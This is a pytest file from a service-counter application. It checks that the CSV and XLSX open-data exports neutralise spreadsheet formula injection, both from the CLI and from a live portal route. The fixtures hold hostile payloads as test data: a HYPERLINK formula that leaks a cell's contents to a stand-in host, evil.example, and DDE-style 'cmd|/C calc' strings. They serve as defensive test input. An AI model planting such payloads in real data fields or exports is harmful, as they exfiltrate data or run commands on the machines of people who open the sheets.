"""Formula injection into the open-data spreadsheets: a hall name and a service item name
that a spreadsheet would run (`=HYPERLINK(...)`, `+`, `-`, `@`, tab, CR) go through the real
`counter-app export` and the real `/open/stats` route on a live portal; the XLSX is opened
with openpyxl (no formula cell anywhere, text as string cells) and the CSV read back (every
such value starts with `'`), while the count columns stay numbers."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest

from counter_app.cli import main
from counter_app.ops.provision import enroll
from counter_app.store.sync_port import StorePort
from counter_app.terminal import Terminal
from forms.catalog import load_item
from portal import enrollment, services
from portal.server import BackgroundServer
from portal.settings import Settings
from sync.engine import SyncEngine
from sync.opendata_columns import COLUMNS
from sync.opendata_files import cell
from tests.counter_app.counter_testing import ANSWERS, DATA, PDF, PERSON
from tests.portal.pages.pages_support import plain_client
from tests.security.terminal.attack_kit import run
from tests.security.terminal.conftest import CLERK

HALL = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
ITEM_ZH = "@SUM(1+1)*cmd|' /C calc'!A0"
ITEM_EN = "-2+3+cmd|' /C calc'!A0"
NUMERIC = ("received", "settled", "settled_on_time", "overdue", "ratings")


def crafted_item(tmp_path: Path) -> Path:
    """TEST-001, version 2, whose name is a formula in both languages."""
    text = (DATA / "TEST-001.yaml").read_text(encoding="utf-8")
    name = f"name: {{zh: {json.dumps(ITEM_ZH)}, en: {json.dumps(ITEM_EN)}}}"
    text = text.replace("version: 1", "version: 2").replace(
        "name: {zh: 测试事项, en: Test item}", name, 1
    )
    path = tmp_path / "TEST-001-v2.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def assert_no_formula(xlsx: bytes) -> list[dict[str, object]]:
    """Every cell of the sheet: none a formula; the rows as dicts (values as stored)."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    sheet = book["stats"]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == list(COLUMNS)
    for row in rows:
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)
            assert not (isinstance(c.value, str) and c.value.startswith(("=", "+", "@", "-")))
    return [{h: c.value for h, c in zip(COLUMNS, row, strict=True)} for row in rows[1:]]


def read_csv(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


@pytest.mark.parametrize("lang", ["zh_CN", "en"])
def test_export_neutralises_formulas_in_hall_and_item_name(
    terminal_dir: Path, tmp_path: Path, lang: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with Terminal.open(terminal_dir) as t:
        t.import_catalog(crafted_item(tmp_path))
        t.hall = HALL
        files = {"id_card": [PDF], "form": [PDF]}
        t.intake.accept("TEST-001", PERSON, ANSWERS, files, clerk_id=CLERK)
    name = ITEM_ZH if lang == "zh_CN" else ITEM_EN
    outs = {fmt: tmp_path / f"stats.{fmt}" for fmt in ("csv", "xlsx")}
    for fmt, out in outs.items():
        argv = ["--data-dir", str(terminal_dir), "--lang", lang, "export", "--format", fmt]
        assert main([*argv, "--out", str(out)]) == 0
    sheet = {r["hall"]: r for r in assert_no_formula(outs["xlsx"].read_bytes())}
    evil = sheet["'" + HALL]
    assert evil["item_name"] == "'" + name
    assert all(isinstance(evil[c], int) for c in NUMERIC) and evil["received"] == 1
    assert sheet["南昌市民中心"]["item_name"] == "'" + name  # the old hall's row, new name
    rows = {r["hall"]: r for r in read_csv(outs["csv"].read_bytes())}
    assert rows["'" + HALL]["item_name"] == "'" + name and rows["'" + HALL]["received"] == "1"


def test_tab_and_carriage_return_starts_are_neutralised_too(
    terminal_dir: Path, tmp_path: Path
) -> None:
    for hall in ("\t=1+2", "\r=1+2", "+1+2", "-1+2", "@A1"):
        with Terminal.open(terminal_dir) as t:
            t.hall = hall
            files = {"id_card": [PDF], "form": [PDF]}
            t.intake.accept("TEST-001", PERSON, ANSWERS, files, clerk_id=CLERK)
    for fmt in ("csv", "xlsx"):
        assert (
            run(terminal_dir, "export", "--format", fmt, "--out", str(tmp_path / f"s.{fmt}")) == 0
        )
    sheet = assert_no_formula((tmp_path / "s.xlsx").read_bytes())
    halls = {str(r["hall"]).replace("\n", "\r") for r in sheet}  # XML reads a CR as LF
    assert {"'\t=1+2", "'\r=1+2", "'+1+2", "'-1+2", "'@A1"} <= halls
    in_csv = {r["hall"] for r in read_csv((tmp_path / "s.csv").read_bytes())}
    assert {"'\t=1+2", "'\r=1+2", "'+1+2", "'-1+2", "'@A1"} <= in_csv


def test_a_negative_number_stays_a_number_and_numeric_text_does_not() -> None:
    """The column's type decides, not the first character: -3 (a number) is written as -3,
    a number in the sheet; the text "-3" is text, and gets its `'`, because "-3+A1" is
    text of the same shape that a spreadsheet would run."""
    assert cell(-3) == -3 and cell(-1.5) == -1.5 and cell(0) == 0 and cell(None) is None
    assert cell("-3") == "'-3" and cell("-3+A1") == "'-3+A1" and cell("南昌") == "南昌"
    assert cell(True) == "True"  # not a count: never written as a number


@pytest.fixture
def live_portal(tmp_path: Path) -> Iterator[BackgroundServer]:
    settings = Settings(
        db_url=f"sqlite:///{tmp_path / 'portal.db'}", materials_dir=tmp_path / "portal-files"
    )
    with BackgroundServer(settings) as server:
        yield server


@pytest.mark.parametrize("lang", ["zh_CN", "en"])
def test_open_stats_neutralises_formulas_from_a_hall_and_a_published_item(
    live_portal: BackgroundServer, terminal_dir: Path, tmp_path: Path, lang: str
) -> None:
    """The hall is named at enrollment, the item by the catalog the platform publishes; an
    application taken and synced; then the anonymous route, as a citizen's browser gets it."""
    db = live_portal.app.state.db
    services.publish_catalog(db, [load_item(crafted_item(tmp_path)).to_dict()])
    with Terminal.open(terminal_dir) as t:
        t.import_catalog(crafted_item(tmp_path))
        enroll(
            t,
            live_portal.url,
            enrollment.issue_code(db, HALL, 12, timedelta(hours=1)),
            plain_client,
        )
        files = {"id_card": [PDF], "form": [PDF]}
        t.intake.accept("TEST-001", PERSON, ANSWERS, files, clerk_id=CLERK)
        report = SyncEngine(StorePort(t), plain_client).run_once()
        assert report.ok, [e.message("en") for e in report.errors]
    name = ITEM_ZH if lang == "zh_CN" else ITEM_EN
    with plain_client() as http:
        bodies = {
            fmt: http.get(f"{live_portal.url}/open/stats", params={"format": fmt, "lang": lang})
            for fmt in ("csv", "xlsx")
        }
    assert all(r.status_code == 200 for r in bodies.values())
    sheet = {r["hall"]: r for r in assert_no_formula(bodies["xlsx"].content)}
    evil = sheet["'" + HALL]
    assert evil["item_name"] == "'" + name
    assert all(isinstance(evil[c], int) for c in NUMERIC) and evil["received"] >= 1
    rows = {r["hall"]: r for r in read_csv(bodies["csv"].content)}
    assert rows["'" + HALL]["item_name"] == "'" + name
